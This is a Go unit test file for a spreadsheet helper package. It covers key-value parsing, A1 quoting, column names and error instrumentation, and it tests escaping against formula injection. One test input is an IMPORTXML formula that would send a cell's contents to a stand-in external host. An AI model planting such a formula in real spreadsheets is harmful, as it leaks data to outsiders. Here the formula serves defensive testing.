package sheets

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestKeyValues(t *testing.T) {
	rows := [][]string{
		{"business_name", "Acme"},
		{"theme", "Fern"},
		{"", "orphan value"},
		{"meta_description"},
		{"  theme  ", "Lilac"},
		{"reason_for_contact", ""},
	}

	got := KeyValues(rows)

	assert.Equal(t, map[string]string{
		"business_name":      "Acme",
		"theme":              "Lilac",
		"reason_for_contact": "",
	}, got)
}

func TestTextCell(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{"Leaky faucet", "Leaky faucet"},
		{"", ""},
		{`=IMPORTXML("https://x.test/?"&A3,"//x")`, `'=IMPORTXML("https://x.test/?"&A3,"//x")`},
		{`=HYPERLINK("https://x.test","click")`, `'=HYPERLINK("https://x.test","click")`},
		{"+1 555 0100", "'+1 555 0100"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
	}

	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			assert.Equal(t, tt.want, TextCell(tt.in))
		})
	}
}

func TestA1(t *testing.T) {
	assert.Equal(t, "'Sheet1'!A2", A1("Sheet1", "A2"))
	assert.Equal(t, "'Bob''s Leads'!A:G", A1("Bob's Leads", "A:G"))
}

func TestColumnName(t *testing.T) {
	tests := map[int]string{0: "A", 1: "A", 7: "G", 11: "K", 26: "Z", 27: "AA", 52: "AZ", 703: "AAA"}
	for n, want := range tests {
		assert.Equal(t, want, ColumnName(n), "column %d", n)
	}
}

type recordingObserver struct {
	calls []error
}

func (r *recordingObserver) ObserveUpstream(upstream string, _ time.Time, err error) {
	r.calls = append(r.calls, err)
}

type failingClient struct{ Client }

func (failingClient) ReadRange(context.Context, string, string) ([][]string, error) {
	return nil, errors.New("quota exceeded")
}

func TestInstrument(t *testing.T) {
	obs := &recordingObserver{}
	c := Instrument(failingClient{}, obs)

	_, err := ReadKeyValues(context.Background(), c, "id", "config!A2:B100")
	require.Error(t, err)
	require.Len(t, obs.calls, 1)
	assert.EqualError(t, obs.calls[0], "quota exceeded")
}
